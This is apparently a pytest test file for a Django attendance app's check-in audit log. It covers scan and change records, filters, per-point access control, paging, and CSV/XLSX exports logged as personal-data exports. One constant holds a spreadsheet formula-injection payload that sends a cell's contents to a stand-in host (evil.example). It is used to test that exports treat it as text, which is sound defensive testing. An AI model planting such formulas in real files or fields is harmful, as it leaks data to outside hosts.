"""The check-in log (nhật ký điểm danh): a point's coordinators and the organisers over it
read every scan attempt at the point, accepted or refused (how, on which device, by whom,
when by the device's clock and by the server's), and every change made by hand (who, when,
why, before and after); organisers read the whole session's, for the points in their scope.
It filters by person (accents optional), by what happened, by method and by days; it comes
50 rows a page in the same queries however many rows there are; it downloads as CSV or
XLSX, each download logged as personal data leaving the system; the API gives the same.

A coordinator of another point gets a 404, as for a point that does not exist, and a row
about someone the reader may not see names nobody."""

import csv
import io
import re
import uuid
from datetime import timedelta
from zoneinfo import ZoneInfo

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from attendance.models import Attendance, AttendanceChange, Method, ScanAttempt
from attendance.selectors.audit import (
    AuditFilters,
    AuditPlace,
    describe_change,
    reason_labels,
    timeline,
)
from attendance.services import correct_times, undo_check_in
from attendance.services.paper import PaperRow, enter_paper_attendance
from attendance.services.scans import MESSAGES
from directory.models import PersonalDataExport
from events.models import Session
from tests import factories
from tests.checkins import Rush, move_start_into_past, post_scan, ticket

pytestmark = pytest.mark.django_db

HCM = ZoneInfo("Asia/Ho_Chi_Minh")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")'


def exact(moment) -> str:
    """ "07:52:13 ngày 11/12/2026", as the log writes a moment."""
    return moment.astimezone(HCM).strftime("%H:%M:%S ngày %d/%m/%Y")


def now():
    return timezone.now().replace(microsecond=0)


@pytest.fixture
def named(rush: Rush) -> Rush:
    """The coordinators and the organiser with their names, as the log shows who acted."""
    for user, name in (
        (rush.coordinator, "Hoàng Văn Hải"),
        (rush.tam_dao_coordinator, "Vũ Thị Hoa"),
        (rush.organiser, "Đặng Quốc Khánh"),
    ):
        user.first_name = name
        user.save()
    return rush


def scan(client, user, participation, payload, **fields):
    client.force_login(user)
    return post_scan(client, participation, payload, **fields)


def page_of(client, url: str, **params):
    response = client.get(url, params)
    assert response.status_code == 200, response.content[:2000]
    return response


def point_log(participation) -> str:
    return reverse("attendance:point_audit", args=[getattr(participation, "pk", participation)])


def session_log(session) -> str:
    return reverse("attendance:session_audit", args=[session.pk])


def as_read(response) -> str:
    """The page without what differs on every page (its token, its own address)."""
    text = re.sub(r'name="csrfmiddlewaretoken" value="[^"]*"', "", response.content.decode())
    return text.replace(response.wsgi_request.path, "")


def rows_of(response) -> list:
    return response.context["page"].rows


# What the log shows


def test_the_log_shows_accepted_and_refused_scans_with_device_actor_and_both_times(client, named):
    # given Mạnh scanned by the coordinator's phone, whose clock is 3 minutes ahead, and a
    # QR code that is no ticket at all
    device_time = now() + timedelta(minutes=3)
    manh = named.entries[0]
    scan(
        client,
        named.coordinator,
        named.song_lo,
        ticket(manh),
        scanned_at=device_time,
        sent_at=device_time,
        device_id="dien-thoai-cua-hai",
    )
    scan(client, named.coordinator, named.song_lo, "https://example.com/khong-phai-ve")

    # when the coordinator opens the point's log
    response = page_of(client, point_log(named.song_lo))

    # then both attempts are there, newest first, with all the log keeps of them
    refused, accepted = rows_of(response)
    first = ScanAttempt.objects.get(reason="checked_in")
    assert (accepted.code, accepted.accepted, accepted.person) == (
        "checked_in",
        True,
        "Nguyễn Văn Mạnh",
    )
    assert (accepted.actor, accepted.device_id) == ("Hoàng Văn Hải", "dien-thoai-cua-hai")
    assert accepted.method_label == "Đầu mối quét mã"
    assert accepted.clock_skew_text == "nhanh 3 phút"
    assert (refused.code, refused.accepted, refused.person) == ("not_a_ticket", False, "")
    text = response.content.decode()
    assert exact(first.server_time) in text
    assert exact(device_time) in text
    assert "dien-thoai-cua-hai" in text
    assert "Hoàng Văn Hải" in text
    assert "Từ chối: Không phải vé DiemCau" in text
    assert "nhanh 3 phút" in text


def test_the_log_shows_changes_by_hand_with_who_why_and_before_and_after(client, named):
    # given Mạnh was scanned, the check-in undone, then his times corrected by hand
    manh = named.entries[0]
    scan(client, named.coordinator, named.song_lo, ticket(manh))
    scanned = Attendance.objects.get(pk=manh.pk).checked_in_at
    undo_check_in(actor=named.coordinator, entry=manh, reason="Quét nhầm người")
    arrival = named.session.starts_at + timedelta(minutes=5)
    correct_times(
        actor=named.organiser,
        entry=manh,
        checked_in_at=arrival,
        checked_out_at=None,
        reason="Máy quét hỏng, ghi theo sổ",
    )

    # when the coordinator reads the log
    response = page_of(client, point_log(named.song_lo))

    # then each change says who made it, why, and what it changed
    corrected, undone, scanned_row = rows_of(response)
    assert scanned_row.code == "checked_in"
    assert (undone.label, undone.actor, undone.reason) == (
        "Hủy điểm danh",
        "Hoàng Văn Hải",
        "Quét nhầm người",
    )
    local = scanned.astimezone(HCM)
    assert f"Giờ đến {local:%H:%M} ngày {local:%d/%m} → (trống)" in undone.changes
    assert (corrected.actor, corrected.reason) == ("Đặng Quốc Khánh", "Máy quét hỏng, ghi theo sổ")
    new = arrival.astimezone(HCM)
    assert corrected.changes == [f"Giờ đến (trống) → {new:%H:%M} ngày {new:%d/%m}"]
    text = response.content.decode()
    assert "Quét nhầm người" in text
    assert "Máy quét hỏng, ghi theo sổ" in text
    assert "Đặng Quốc Khánh" in text


def test_before_and_after_read_as_the_roster_writes_times():
    eight = {"checked_in_at": "2026-12-11T00:52:00+00:00", "checked_out_at": None}
    later = {"checked_in_at": "2026-12-11T01:05:00+00:00", "checked_out_at": None}
    assert describe_change(eight, later) == ["Giờ đến 07:52 → 08:05 ngày 11/12"]

    other_day = {"checked_in_at": "2026-12-12T01:05:00+00:00"}
    assert describe_change(eight, other_day) == ["Giờ đến 07:52 ngày 11/12 → 08:05 ngày 12/12"]

    paper = {"checked_in_at": None, "checked_out_at": None, "method": ""}
    written = {
        "checked_in_at": "2026-12-11T00:50:00+00:00",
        "checked_out_at": "2026-12-11T04:30:00+00:00",
        "method": "paper",
    }
    assert describe_change(paper, written) == [
        "Giờ đến (trống) → 07:50 ngày 11/12",
        "Giờ về (trống) → 11:30 ngày 11/12",
        "Cách thức: (trống) → Nhập từ danh sách ký tên trên giấy",
    ]
    assert describe_change({"excuse": "requested"}, {"excuse": "approved"}) == [
        "Trạng thái xin vắng: Xin vắng (chờ duyệt) → Vắng có phép"
    ]


def test_every_answer_a_scan_can_get_has_a_short_name_in_the_log():
    assert set(MESSAGES) <= set(reason_labels())


def test_paper_entries_show_who_entered_them_and_the_times_written(client, named):
    # given the session was held and the coordinator typed in two lines of the paper sheet
    move_start_into_past(named.session, ago=timedelta(hours=4), length=timedelta(hours=3))
    Session.objects.filter(pk=named.session.pk).update(status=Session.Status.HELD)
    named.song_lo.session.refresh_from_db()
    starts = named.session.starts_at
    manh, anh = named.entries[0], named.entries[1]
    enter_paper_attendance(
        actor=named.coordinator,
        participation=named.song_lo,
        rows=[
            PaperRow(manh.pk, starts - timedelta(minutes=8), starts + timedelta(hours=2)),
            PaperRow(anh.pk, starts + timedelta(minutes=20)),
        ],
        reason="Danh sách ký tên buổi sáng",
    )

    # when the log is filtered to paper entries
    client.force_login(named.coordinator)
    response = page_of(client, point_log(named.song_lo), method=Method.PAPER)

    # then both lines are there, entered by the coordinator, with their times
    rows = rows_of(response)
    assert {row.person for row in rows} == {"Nguyễn Văn Mạnh", "Trần Thị Ánh"}
    assert {row.actor for row in rows} == {"Hoàng Văn Hải"}
    assert {row.label for row in rows} == {"Nhập từ danh sách ký tên trên giấy"}
    assert {row.reason for row in rows} == {"Danh sách ký tên buổi sáng"}
    arrived = (starts + timedelta(minutes=20)).astimezone(HCM)
    anh_row = next(row for row in rows if row.person == "Trần Thị Ánh")
    assert f"Giờ đến (trống) → {arrived:%H:%M} ngày {arrived:%d/%m}" in anh_row.changes


# Filters


@pytest.fixture
def busy(client, named) -> Rush:
    """At Sông Lô: Mạnh and Ánh scanned, Ánh scanned again, a forged ticket, Mạnh's
    check-in undone."""
    manh, anh = named.entries[0], named.entries[1]
    scan(client, named.coordinator, named.song_lo, ticket(manh))
    scan(client, named.coordinator, named.song_lo, ticket(anh))
    scan(client, named.coordinator, named.song_lo, ticket(anh))
    scan(client, named.coordinator, named.song_lo, ticket(manh)[:-4] + "AAAA")
    undo_check_in(actor=named.coordinator, entry=manh, reason="Quét nhầm")
    return named


def test_the_log_finds_a_person_typed_without_accents(client, busy):
    response = page_of(client, point_log(busy.song_lo), person="tran thi anh")

    rows = rows_of(response)
    assert [row.code for row in rows] == ["already_checked_in", "checked_in"]
    assert {row.person for row in rows} == {"Trần Thị Ánh"}


def test_the_log_filters_by_what_happened(client, busy):
    url = point_log(busy.song_lo)

    def codes(kind: str) -> list[str]:
        return [row.code for row in rows_of(page_of(client, url, kind=kind))]

    assert codes("accepted") == ["checked_in", "checked_in"]
    assert codes("refused") == ["forged", "already_checked_in"]
    assert codes("refused:forged") == ["forged"]
    assert codes("changes") == ["undone"]
    assert codes("change:undone") == ["undone"]
    assert codes("change:paper_entered") == []
    assert len(codes("")) == 5


def test_the_log_filters_by_method_and_days(client, busy):
    url = point_log(busy.song_lo)
    today = timezone.localdate()

    scanned = rows_of(page_of(client, url, method="scan"))
    assert [row.code for row in scanned] == [
        "forged",
        "already_checked_in",
        "checked_in",
        "checked_in",
    ]
    assert len(rows_of(page_of(client, url, date_from=today, date_to=today))) == 5
    tomorrow = today + timedelta(days=1)
    assert rows_of(page_of(client, url, date_from=tomorrow)) == []
    yesterday = today - timedelta(days=1)
    assert rows_of(page_of(client, url, date_to=yesterday)) == []


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"kind": "deleted"}, "kind"),
        ({"method": "pigeon"}, "method"),
        ({"date_from": "2026-12-11", "date_to": "2026-12-01"}, "date_to"),
        ({"date_from": "0001-01-01"}, "date_from"),
        ({"date_to": "11/12/2026x"}, "date_to"),
        ({"person": "Mạnh\x00"}, "person"),
    ],
)
def test_a_filter_that_cannot_be_read_says_so_and_shows_no_rows(client, busy, params, field):
    client.force_login(busy.coordinator)

    response = client.get(point_log(busy.song_lo), params)

    assert response.status_code == 400
    assert response.context["form"].errors[field]
    assert response.context["page"] is None
    assert "Nguyễn Văn Mạnh" not in response.content.decode()


# Who may read what


def test_a_coordinator_of_another_point_gets_404_and_nothing_about_its_people(client, busy):
    # given Thắng scanned at Tam Đảo
    scan(client, busy.tam_dao_coordinator, busy.tam_dao, ticket(busy.tam_dao_entry))

    # when Sông Lô's coordinator asks for Tam Đảo's log, its files, and a point that does
    # not exist
    client.force_login(busy.coordinator)
    answers = [
        client.get(point_log(busy.tam_dao)),
        client.get(reverse("attendance:point_audit_export", args=[busy.tam_dao.pk, "csv"])),
        client.get(reverse("attendance:point_audit_export", args=[busy.tam_dao.pk, "xlsx"])),
        client.get(reverse("api:point_audit", args=[busy.tam_dao.pk])),
    ]
    missing = client.get(point_log(busy.tam_dao.pk + 1000))

    # then every answer is the 404 of a point that does not exist, naming nobody, logging
    # no export
    assert [answer.status_code for answer in answers] == [404, 404, 404, 404]
    assert as_read(answers[0]) == as_read(missing)
    for answer in answers:
        assert "Thắng" not in answer.content.decode()
    assert not PersonalDataExport.objects.exists()


def test_a_coordinator_reads_no_session_wide_log(client, busy):
    client.force_login(busy.coordinator)

    assert client.get(session_log(busy.session)).status_code == 403
    assert client.get(reverse("api:session_audit", args=[busy.session.pk])).status_code == 403


def test_a_scan_here_of_someone_from_another_point_names_nobody_to_this_points_coordinator(
    client, named
):
    # given the organiser scanned Thắng's ticket (Tam Đảo) with Sông Lô's scanner
    answer = scan(client, named.organiser, named.song_lo, ticket(named.tam_dao_entry))
    assert answer.json()["code"] == "wrong_point"

    # when Sông Lô's coordinator reads the log, or looks for Thắng in it
    client.force_login(named.coordinator)
    listed = page_of(client, point_log(named.song_lo))
    looked_for = page_of(client, point_log(named.song_lo), person="thang")

    # then the refusal is there, naming nobody, and looking for him finds nothing
    (row,) = rows_of(listed)
    assert (row.code, row.person, row.entry_id) == ("wrong_point", "", None)
    assert "Thắng" not in listed.content.decode()
    assert rows_of(looked_for) == []

    # while the organiser over both points sees whom it was about
    client.force_login(named.organiser)
    (row,) = rows_of(page_of(client, point_log(named.song_lo), person="thang"))
    assert row.person == "Phạm Đức Thắng"


def test_an_organiser_reads_the_whole_session_and_narrows_it_to_a_point(client, busy):
    scan(client, busy.tam_dao_coordinator, busy.tam_dao, ticket(busy.tam_dao_entry))
    client.force_login(busy.organiser)

    everything = rows_of(page_of(client, session_log(busy.session)))
    at_tam_dao = rows_of(page_of(client, session_log(busy.session), point=busy.tam_dao.point_id))

    assert {row.point for row in everything} == {busy.song_lo.point.name, busy.tam_dao.point.name}
    assert len(everything) == 6
    assert [(row.person, row.actor) for row in at_tam_dao] == [("Phạm Đức Thắng", "Vũ Thị Hoa")]


def test_an_organiser_reads_only_the_points_in_scope_of_a_wider_session(client, busy, network):
    # given Bến Tre's point joined the session, with a scan there by its coordinator
    from events.models import SessionPoint
    from events.services import add_to_roster, assign_coordinator

    ben_tre = SessionPoint.objects.create(session=busy.session, point=network.ben_tre_point)
    ben_tre_coordinator = factories.coordinator(network.ben_tre, username="dau-moi-ben-tre")
    assign_coordinator(point=network.ben_tre_point, user=ben_tre_coordinator)
    person = factories.PersonFactory(
        full_name="Lâm Thị Bích",
        agency=factories.AgencyFactory(name="UBND tỉnh Bến Tre", unit=network.ben_tre),
    )
    add_to_roster(actor=ben_tre_coordinator, participation=ben_tre, person_ids=[person.pk])
    entry = ben_tre.roster.get()
    scan(client, ben_tre_coordinator, ben_tre, ticket(entry))

    # when Vĩnh Phúc's organiser reads the session's log, or asks for Bến Tre's
    client.force_login(busy.organiser)
    rows = rows_of(page_of(client, session_log(busy.session)))
    picked = client.get(session_log(busy.session), {"point": network.ben_tre_point.pk})
    direct = client.get(point_log(ben_tre))

    # then Bến Tre is in none of them
    assert "Điểm cầu tỉnh Bến Tre" not in {row.point for row in rows}
    assert len(rows) == 5
    assert picked.status_code == 400
    assert "Lâm Thị Bích" not in picked.content.decode()
    assert direct.status_code == 404

    # and an organiser of Bến Tre reads Bến Tre's alone
    ben_tre_organiser = factories.organiser(network.ben_tre, username="so-noi-vu-ben-tre")
    client.force_login(ben_tre_organiser)
    (row,) = rows_of(page_of(client, session_log(busy.session)))
    assert row.person == "Lâm Thị Bích"


# Pages and queries


def fill(rush: Rush, count: int) -> None:
    """`count` rows at Sông Lô alternating scans (by two phones and two people) and changes,
    a minute apart, each with its people to read."""
    base = now() - timedelta(hours=2)
    users = [rush.coordinator, rush.organiser]
    scans, changes = [], []
    for index in range(count):
        entry = rush.entries[index % len(rush.entries)]
        if index % 2:
            attendance, _created = Attendance.objects.get_or_create(
                entry=entry,
                defaults={
                    "session_id": entry.session_id,
                    "participation_id": entry.participation_id,
                },
            )
            changes.append(
                AttendanceChange(
                    attendance=attendance,
                    kind=AttendanceChange.Kind.TIME_CORRECTED,
                    actor=factories.UserFactory(first_name=f"Người sửa {index}"),
                    reason=f"Sửa lần {index}",
                    before={"checked_in_at": None},
                    after={"checked_in_at": (base + timedelta(minutes=index)).isoformat()},
                )
            )
        else:
            scans.append(
                ScanAttempt(
                    scan_id=uuid.uuid4(),
                    device_id=f"may-{index % 2}",
                    method=Method.SCAN,
                    participation=rush.song_lo,
                    entry=entry,
                    actor=users[index % 4 // 2],
                    outcome=ScanAttempt.Outcome.ACCEPTED,
                    reason="checked_in",
                    device_time=base + timedelta(minutes=index),
                    server_time=base + timedelta(minutes=index),
                )
            )
    ScanAttempt.objects.bulk_create(scans)
    created = AttendanceChange.objects.bulk_create(changes)
    for change, index in zip(created, range(1, count, 2), strict=True):
        AttendanceChange.objects.filter(pk=change.pk).update(
            created_at=base + timedelta(minutes=index)
        )


def queries_for(client, url: str, **params) -> int:
    with CaptureQueriesContext(connection) as queries:
        page_of(client, url, **params)
    return len(queries)


@pytest.mark.parametrize("whole_session", [False, True])
def test_a_page_takes_the_same_queries_for_5_rows_as_for_60(client, rush, whole_session):
    client.force_login(rush.organiser)
    url = session_log(rush.session) if whole_session else point_log(rush.song_lo)
    fill(rush, 5)
    page_of(client, url)  # once, for what the layout reads once and keeps
    few = queries_for(client, url)
    fill(rush, 55)

    many = queries_for(client, url)
    filtered = queries_for(client, url, person="van", kind="changes")

    assert few == many
    assert filtered <= many
    assert many <= 12


def test_the_log_comes_50_rows_a_page_newest_first(client, rush):
    fill(rush, 60)
    client.force_login(rush.coordinator)

    first = page_of(client, point_log(rush.song_lo))
    second = page_of(client, point_log(rush.song_lo), page=2)
    beyond = page_of(client, point_log(rush.song_lo), page=9)

    assert len(rows_of(first)) == 50
    assert (first.context["page"].has_next, second.context["page"].has_next) == (True, False)
    assert len(rows_of(second)) == 10
    moments = [row.at for row in rows_of(first) + rows_of(second)]
    assert moments == sorted(moments, reverse=True)
    assert rows_of(beyond) == []
    assert 'rel="next"' in first.content.decode()


def test_the_selector_reads_a_page_in_three_queries(rush, django_assert_max_num_queries):
    fill(rush, 60)
    place = AuditPlace(rush.organiser, rush.session, rush.song_lo)
    timeline(place, AuditFilters())  # reads the organiser's scope once
    with django_assert_max_num_queries(3):
        page = timeline(place, AuditFilters())
    assert len(page.rows) == 50


# Files


def csv_rows(response) -> list[list[str]]:
    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff"))))


def test_the_csv_holds_the_filtered_rows_and_is_logged(client, busy):
    client.force_login(busy.coordinator)

    response = client.get(
        reverse("attendance:point_audit_export", args=[busy.song_lo.pk, "csv"]),
        {"person": "anh", "kind": "accepted"},
    )

    assert response.status_code == 200
    assert "nhat-ky-diem-danh" in response["Content-Disposition"]
    header, *rows = csv_rows(response)
    assert header[:6] == [
        "STT",
        "Thời điểm trên máy chủ",
        "Điểm cầu",
        "Nội dung",
        "Kết quả",
        "Người",
    ]
    # "anh" finds Ánh, and Mạnh too: accents left out, every word is part of a name
    assert sorted(row[5] for row in rows) == ["Nguyễn Văn Mạnh", "Trần Thị Ánh"]
    assert {row[4] for row in rows} == {"Chấp nhận"}
    assert {row[8] for row in rows} == {"Hoàng Văn Hải"}
    (record,) = PersonalDataExport.objects.all()
    assert (record.kind, record.file_format, record.row_count, record.actor) == (
        PersonalDataExport.Kind.ROSTER,
        "csv",
        2,
        busy.coordinator,
    )
    assert (record.session_id, record.point_id) == (busy.session.pk, busy.song_lo.point_id)
    assert "nhật ký điểm danh" in record.label


def test_a_reason_written_like_a_formula_is_text_in_both_files(client, named):
    manh = named.entries[0]
    scan(client, named.coordinator, named.song_lo, ticket(manh))
    undo_check_in(actor=named.coordinator, entry=manh, reason=HYPERLINK)
    client.force_login(named.coordinator)

    as_csv = client.get(reverse("attendance:point_audit_export", args=[named.song_lo.pk, "csv"]))
    as_xlsx = client.get(reverse("attendance:point_audit_export", args=[named.song_lo.pk, "xlsx"]))

    _header, undone, _scanned = csv_rows(as_csv)
    assert undone[12] == "'" + HYPERLINK
    sheet = load_workbook(io.BytesIO(b"".join(as_xlsx.streaming_content))).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    (reason,) = [cell for cell in cells if cell.value == HYPERLINK]
    assert reason.data_type == "s" and reason.quotePrefix


def test_the_xlsx_holds_the_rows_under_a_title_and_is_logged(client, busy, network):
    client.force_login(busy.organiser)

    response = client.get(
        reverse("attendance:session_audit_export", args=[busy.session.pk, "xlsx"]),
        {"kind": "refused"},
    )

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    values = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert busy.session.title in values[0][0]
    assert values[1][3] == "Nội dung"
    assert [row[11] for row in values[2:]] == ["forged", "already_checked_in"]
    assert values[3][5] == "Trần Thị Ánh"
    (record,) = PersonalDataExport.objects.all()
    assert (record.kind, record.file_format, record.row_count, record.point_id) == (
        PersonalDataExport.Kind.NATIONAL_ROSTER,
        "xlsx",
        2,
        None,
    )
    # read by the organisers over the province, where the people exported are
    assert record.unit_id == network.vinh_phuc.pk


def test_a_file_with_a_filter_it_cannot_read_is_refused_and_not_logged(client, busy):
    client.force_login(busy.coordinator)

    response = client.get(
        reverse("attendance:point_audit_export", args=[busy.song_lo.pk, "csv"]),
        {"kind": "everything"},
    )

    assert response.status_code == 400
    assert not PersonalDataExport.objects.exists()


def test_a_file_longer_than_the_limit_is_refused_with_the_rows_still_shown(
    client, busy, monkeypatch
):
    monkeypatch.setattr("attendance.views.audit.EXPORT_MAX_ROWS", {"csv": 4, "xlsx": 4})
    client.force_login(busy.organiser)
    url = reverse("attendance:session_audit_export", args=[busy.session.pk, "csv"])

    refused = client.get(url)
    narrowed = client.get(url, {"kind": "accepted"})

    assert refused.status_code == 400
    assert "5 dòng là quá nhiều cho một tệp (tối đa 4 dòng)" in refused.content.decode()
    assert len(rows_of(refused)) == 5
    assert narrowed.status_code == 200
    assert [record.row_count for record in PersonalDataExport.objects.all()] == [2]


# The API


def test_the_api_gives_the_same_rows_filtered_and_paged(client, busy):
    client.force_login(busy.coordinator)
    url = reverse("api:point_audit", args=[busy.song_lo.pk])

    body = client.get(url, {"person": "tran thi anh"}).json()

    assert (body["participation_id"], body["page"], body["per_page"], body["has_next"]) == (
        busy.song_lo.pk,
        1,
        50,
        False,
    )
    assert [row["code"] for row in body["rows"]] == ["already_checked_in", "checked_in"]
    row = body["rows"][1]
    assert (row["source"], row["accepted"], row["person"], row["actor"]) == (
        "scan",
        True,
        "Trần Thị Ánh",
        "Hoàng Văn Hải",
    )
    assert row["device_id"] == "dien-thoai-1"
    assert row["label"] == "Đã điểm danh"

    changes = client.get(url, {"kind": "changes"}).json()["rows"]
    assert [(row["code"], row["reason"], row["actor"]) for row in changes] == [
        ("undone", "Quét nhầm", "Hoàng Văn Hải")
    ]


def test_the_api_pages_50_at_a_time(client, rush):
    fill(rush, 60)
    client.force_login(rush.organiser)
    url = reverse("api:session_audit", args=[rush.session.pk])

    first = client.get(url).json()
    second = client.get(url, {"page": 2, "point": rush.song_lo.point_id}).json()

    assert (len(first["rows"]), first["has_next"]) == (50, True)
    assert (len(second["rows"]), second["has_next"]) == (10, False)


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"kind": "deleted"}, "kind"),
        ({"date_from": "2026-12-11", "date_to": "2026-12-01"}, "date_to"),
        ({"page": 0}, "page"),
    ],
)
def test_the_api_refuses_filters_it_cannot_read_by_field(client, busy, params, field):
    client.force_login(busy.coordinator)

    response = client.get(reverse("api:point_audit", args=[busy.song_lo.pk]), params)

    assert response.status_code == 422
    assert response.json()["code"] == "invalid"
    assert field in response.json()["errors"]


def test_the_api_answers_404_for_a_point_out_of_reach_and_a_point_not_in_scope(client, busy):
    client.force_login(busy.coordinator)
    assert client.get(reverse("api:point_audit", args=[busy.tam_dao.pk])).status_code == 404

    client.force_login(busy.organiser)
    other = client.get(
        reverse("api:session_audit", args=[busy.session.pk]), {"point": busy.song_lo.point_id + 999}
    )
    assert other.status_code == 422
    assert "point" in other.json()["errors"]


# The ways in


def test_the_points_pages_and_the_session_page_link_to_the_log(client, rush):
    client.force_login(rush.coordinator)
    roster = client.get(reverse("attendance:roster", args=[rush.song_lo.pk])).content.decode()
    assert point_log(rush.song_lo) in roster

    client.force_login(rush.organiser)
    session = client.get(reverse("events:session_detail", args=[rush.session.pk]))
    assert session_log(rush.session) in session.content.decode()

    client.force_login(rush.coordinator)
    session = client.get(reverse("events:session_detail", args=[rush.session.pk]))
    assert session_log(rush.session) not in session.content.decode()
